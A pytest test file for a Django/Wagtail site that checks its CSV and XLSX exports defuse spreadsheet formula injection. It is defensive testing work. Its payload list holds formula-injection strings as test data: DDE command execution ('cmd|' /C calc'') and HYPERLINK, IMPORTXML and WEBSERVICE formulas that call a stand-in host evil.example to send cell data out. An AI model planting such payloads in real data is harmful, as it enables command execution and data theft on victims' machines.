"""No cell of any export is run by a spreadsheet, and none is lost (F35)."""

import csv
import io
from typing import Any

import pytest
from django.urls import NoReverseMatch, URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect

from live.registration.actions import register
from live.reports import FORMULA, harmless
from tests import factories

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example?"&A1,"Ver")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "−1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tRosa",
    "+52 55 1234 5678",
]
PLAIN = ["Rosa", "", "3-2", "a=b", "rosa@example.org", "¿=?", "'=1", "5", "Ana, “la de la =”", "(+52) 55"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe_and_stays_readable(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_plain_words_stay_as_they_are(text):
    assert harmless(text) == text


@pytest.fixture
def people(db: None) -> list[str]:
    """One registration a formula, and one with characters no XLSX file may hold."""
    session = factories.a_session(title="Mesa", mode="hybrid")
    names = [text.strip() for text in FORMULAS]
    for number, name in enumerate([*names, "Ana\x0b\x1bB"]):
        register(session=session.translation_key, mode="room", name=name, email=f"{number}@example.org")
    return names


def cells(client: Any, address: str, kind: str) -> list[Any]:
    """The cells below the heading: text of a CSV file, cells of an XLSX."""
    response = client.get(address, {"export": kind})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if kind == "csv":
        return [cell for row in list(csv.reader(io.StringIO(content.decode())))[1:] for cell in row]
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows())[1:]
    return [cell for row in rows for cell in row if cell.value is not None]


def test_in_csv_every_name_is_there_and_none_begins_like_a_formula(client, ada, people):
    client.force_login(ada)
    found = cells(client, reverse("people_report"), "csv")
    assert set(map(harmless, people)) <= set(found)
    assert "AnaB" in found
    assert [cell for cell in found if cell[:1] in FORMULA | {"\t", "\r", "\n"}] == []


def test_in_xlsx_every_name_is_text_and_as_it_was_typed(client, ada, people):
    client.force_login(ada)
    found = cells(client, reverse("people_report"), "xlsx")
    kinds = {cell.value: cell.data_type for cell in found}
    assert {kinds.get(name.replace("\r", "\n"), "lost") for name in people} <= {"s", "inlineStr"}
    assert "f" not in kinds.values()


def exports(resolver: URLResolver | None = None, space: str = "") -> list[str]:
    """The address of every view that can be exported and needs no parameter."""
    found: list[str] = []
    for one in (resolver or get_resolver()).url_patterns:
        if isinstance(one, URLResolver):
            found += exports(one, f"{space}{one.namespace}:" if one.namespace else space)
        elif isinstance(one, URLPattern) and _exportable(one) and one.name:
            try:
                found.append(reverse(space + one.name))
            except NoReverseMatch:
                continue
    return sorted(set(found))


def _exportable(pattern: URLPattern) -> bool:
    view = pattern.callback
    while hasattr(view, "__wrapped__"):
        view = view.__wrapped__
    kind = getattr(view, "view_class", None)
    return isinstance(kind, type) and issubclass(kind, SpreadsheetExportMixin) and bool(kind.list_export)


EVIL = "=cmd|' /C calc'!A0"


def test_wagtails_own_exports_hold_no_formula_either(client, sol):
    sol.first_name = sol.last_name = EVIL
    sol.save()
    client.force_login(sol)
    page = factories.a_session(title=EVIL, slug="mesa")
    page.save_revision(user=sol, log_action=True).publish(user=sol)
    page.locked, page.locked_by = True, sol
    page.save()
    Redirect.objects.create(old_path="/antes", redirect_link="+1")
    addresses = exports()
    assert len(addresses) >= 6, addresses
    faults, seen = [], 0
    for address in addresses:
        for kind in ("csv", "xlsx"):
            for cell in cells(client, address, kind):
                text = cell if kind == "csv" else str(cell.value)
                seen += EVIL in text
                if (kind == "csv" and text[:1] in FORMULA) or (kind == "xlsx" and cell.data_type == "f"):
                    faults.append(f"{address} {kind}: {text}")
    assert faults == []
    assert seen > 4, "control: the formula is in them"
